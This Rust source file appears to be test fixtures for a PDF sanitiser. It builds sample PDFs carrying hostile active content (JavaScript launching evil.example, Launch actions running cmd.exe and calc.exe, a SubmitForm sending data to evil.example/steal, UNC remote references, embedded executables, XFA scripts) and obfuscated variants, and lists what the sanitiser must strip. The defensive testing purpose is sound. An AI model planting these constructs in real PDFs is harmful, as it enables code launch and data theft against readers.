//! Planters for what runs, opens or carries something: actions, forms, attachments, media.

use super::build::{BODY, Doc};
use crate::{Planted, Planter};

/// A planted file: what must be gone, and what must be kept beside the body text.
pub fn planted(name: &str, bytes: Vec<u8>, gone: &[&str], kept: &[&str]) -> Planted {
    let list = |l: &[&str]| l.iter().map(|s| s.as_bytes().to_vec()).collect::<Vec<_>>();
    let mut kept = list(kept);
    kept.push(BODY.as_bytes().to_vec());
    Planted { name: format!("{name}.pdf"), bytes, gone: list(gone), kept }
}

/// A table of planters: rule, shape, what makes the file.
macro_rules! plant_all {
    ($($rule:literal, $shape:literal, $make:expr;)*) => {
        pub(super) fn planters() -> Vec<Planter> {
            vec![$(Planter { rule: $rule, shape: $shape, plant: || $make },)*]
        }
    };
}
pub(super) use plant_all;

const CALC: &str = "app.launchURL('http://evil.example/')";

plant_all! {
    "pdf.javascript", "plain", planted("js", Doc::new().link(&format!("/A<</S/JavaScript/JS({CALC})>>")).build(), &["JavaScript", "evil.example", "/JS"], &["/Subtype/Link"]);
    "pdf.javascript", "obfuscated: names with #xx, hex string, indirect S and JS", planted(
        "js-obf",
        Doc::new().link("/#41<</#53 6 0 R/J#53 7 0 R>>").object(6, "/J#61va#53cript").object(7, "<6170702e616c65727428276576696c2729>").build(),
        &["JavaScript", "app.alert", "/JS", "6170702E616C657274"],
        &["/Subtype/Link"],
    );
    "pdf.javascript", "obfuscated: a name tree in an object stream", planted(
        "js-names",
        Doc::new().catalog("/Names 6 0 R").object(6, "<</JavaScript 7 0 R>>").object(7, "<</Kids[8 0 R]>>").object(8, &format!("<</Names[(a)<</S/JavaScript/JS({CALC})>>]>>")).build_packed(),
        &["JavaScript", "evil.example", "/Names"],
        &[],
    );
    "pdf.javascript", "obfuscated: duplicate keys, stream with a filter chain", planted(
        "js-dup",
        Doc::new().link("/A<</S/URI/S/JavaScript/URI(http://e.jp/)/JS 6 0 R>>").stream(6, "/Filter[/ASCIIHexDecode]", b"6170702e616c6572742831293b>").build(),
        &["JavaScript", "app.alert"],
        &["/Subtype/Link"],
    );
    "pdf.open-action", "plain", planted("open", Doc::new().catalog(&format!("/OpenAction<</S/JavaScript/JS({CALC})>>")).build(), &["OpenAction", "evil.example"], &[]);
    "pdf.open-action", "obfuscated: a launch behind a reference", planted(
        "open-launch",
        Doc::new().catalog("/Open#41ction 6 0 R").object(6, "<</Type/Action/S/Launch/F(cmd.exe)>>").build(),
        &["OpenAction", "cmd.exe", "Launch"],
        &[],
    );
    "pdf.additional-action", "plain", planted("aa", Doc::new().catalog(&format!("/AA<</WC<</S/JavaScript/JS({CALC})>>>>")).page(&format!("/AA<</O<</S/JavaScript/JS({CALC})>>>>")).build(), &["/AA", "evil.example"], &[]);
    "pdf.launch", "plain", planted("launch", Doc::new().link("/A<</S/Launch/F(calc.exe)/Win<</F(calc.exe)/P(/c dir)>>>>").build(), &["Launch", "calc.exe"], &["/Subtype/Link"]);
    "pdf.launch", "obfuscated: a second action in Next", planted(
        "launch-next",
        Doc::new().link("/A<</S/URI/URI(https://www.city.example.jp/)/Next<</S/Launch/F(calc.exe)>>>>").build(),
        &["Launch", "calc.exe", "/Next"],
        &["https:"],
    );
    "pdf.remote-goto", "plain", planted("gotor", Doc::new().link("/A<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]>>").build(), &["GoToR", "evil.example"], &["/Subtype/Link"]);
    "pdf.remote-goto", "plain: embedded", planted("gotoe", Doc::new().link("/A<</S/GoToE/T<</R/C/N(payload.pdf)>>/D[0/Fit]>>").build(), &["GoToE", "payload.pdf"], &["/Subtype/Link"]);
    "pdf.submit-form", "plain", planted("submit", Doc::new().catalog("/AcroForm<</Fields[6 0 R]>>").page("/Annots[6 0 R]").object(6, "<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(send)/Rect[10 10 60 30]/A<</S/SubmitForm/F<</FS/URL/F(http://evil.example/steal)>>>>>>").build(), &["SubmitForm", "evil.example"], &["/T(send)", "/Subtype/Widget"]);
    "pdf.import-data", "plain", planted("import", Doc::new().link("/A<</S/ImportData/F(c:/secret.fdf)>>").build(), &["ImportData", "secret.fdf"], &["/Subtype/Link"]);
    "pdf.media", "plain", planted("media", Doc::new().page("/Annots[<</Type/Annot/Subtype/Screen/Rect[10 10 90 90]/A<</S/Rendition/R<</S/MR/C<</D(evil.mp4)>>>>/OP 0>>>>]").build(), &["Rendition", "evil.mp4", "Screen"], &[]);
    "pdf.media", "plain: sound action", planted("sound", Doc::new().link("/A<</S/Sound/Sound 6 0 R>>").stream(6, "/Type/Sound/R 8000", b"evil-sound").build(), &["/Sound", "evil-sound"], &["/Subtype/Link"]);
    "pdf.rich-media", "plain", planted(
        "rich",
        Doc::new().page("/Annots[<</Type/Annot/Subtype/RichMedia/Rect[10 10 90 90]/RichMediaContent<</Assets<</Names[(x.swf)6 0 R]>>>>/AP<</N 7 0 R>>>>]").stream(6, "/Type/EmbeddedFile", b"FWS-evil").stream(7, "/Type/XObject/Subtype/Form/BBox[0 0 80 80]", b"0 0 80 80 re f").build(),
        &["RichMedia", "FWS-evil"],
        &["/Subtype/Stamp", "0 0 80 80 re"],
    );
    "pdf.other-action", "plain", planted("hide", Doc::new().link("/A<</S/Hide/T(field)/H true>>").build(), &["/Hide"], &["/Subtype/Link"]);
    "pdf.other-action", "plain: a named action that prints", planted("named", Doc::new().link("/A<</S/Named/N/Print>>").build(), &["/Named", "/Print"], &["/Subtype/Link"]);
    "pdf.link", "plain", planted("link", Doc::new().link("/A<</S/URI/URI(file:///c:/windows/calc.exe)>>").build(), &["calc.exe", "/URI"], &["/Subtype/Link"]);
    "pdf.link", "obfuscated: UTF-16, tab within the scheme", planted("link-16", Doc::new().link("/A<</S/URI/URI<FEFF006A0061007600610009007300630072006900700074003A0078>>>").build(), &["/URI"], &["/Subtype/Link"]);
    "pdf.embedded-file", "plain", planted(
        "embedded",
        Doc::new().catalog("/Names<</EmbeddedFiles<</Names[(evil.exe)6 0 R]>>>>/AF[6 0 R]").object(6, "<</Type/Filespec/F(evil.exe)/EF<</F 7 0 R>>>>").stream(7, "/Type/EmbeddedFile", b"MZ-evil-payload").build(),
        &["EmbeddedFile", "evil.exe", "MZ-evil", "/AF", "Filespec"],
        &[],
    );
    "pdf.file-attachment", "plain", planted(
        "attachment",
        Doc::new().page("/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[10 10 30 30]/Contents(see file)/FS 6 0 R>>]").object(6, "<</Type/Filespec/F(evil.exe)/EF<</F 7 0 R>>>>").stream(7, "/Type/EmbeddedFile", b"MZ-evil-payload").build(),
        &["FileAttachment", "MZ-evil", "/FS"],
        &["/Subtype/Text"],
    );
    "pdf.xfa", "plain", planted(
        "xfa",
        Doc::new().catalog("/AcroForm<</Fields[6 0 R]/XFA[(template)7 0 R]>>").page("/Annots[6 0 R]").object(6, "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Yamada)/Rect[10 10 90 30]>>").stream(7, "", b"<xdp:xdp><script>evil()</script></xdp:xdp>").build(),
        &["XFA", "xdp", "evil()"],
        &["(Yamada)", "/T(name)"],
    );
    "pdf.portfolio", "plain", planted("portfolio", Doc::new().catalog("/Collection<</View/D/Schema<</x<</Subtype/F/N(evil-column)>>>>>>").build(), &["Collection", "evil-column"], &[]);
    "pdf.external-stream", "plain", planted(
        "external",
        Doc::new().resources("/XObject<</Im0 6 0 R>>").content("/Im0 Do").stream(6, "/Type/XObject/Subtype/Image/Width 10/Height 10/BitsPerComponent 8/ColorSpace/DeviceGray/F(\\\\\\\\evil.example\\\\x)/FFilter/FlateDecode", b"").build(),
        &["evil.example", "FFilter"],
        &["/Im0 Do"],
    );
    "pdf.foreign-object", "plain", planted(
        "postscript",
        Doc::new().resources("/XObject<</X0 6 0 R/X1 7 0 R>>").content("/X0 Do /X1 Do").stream(6, "/Type/XObject/Subtype/PS", b"(calc.exe) run").stream(7, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(evil.pdf)/Page 0>>/OPI<</2.0<</F(evil.eps)>>>>", b"0 0 9 9 re f").build(),
        &["calc.exe", "evil.pdf", "evil.eps", "/Ref", "/OPI"],
        &["0 0 9 9 re"],
    );
}
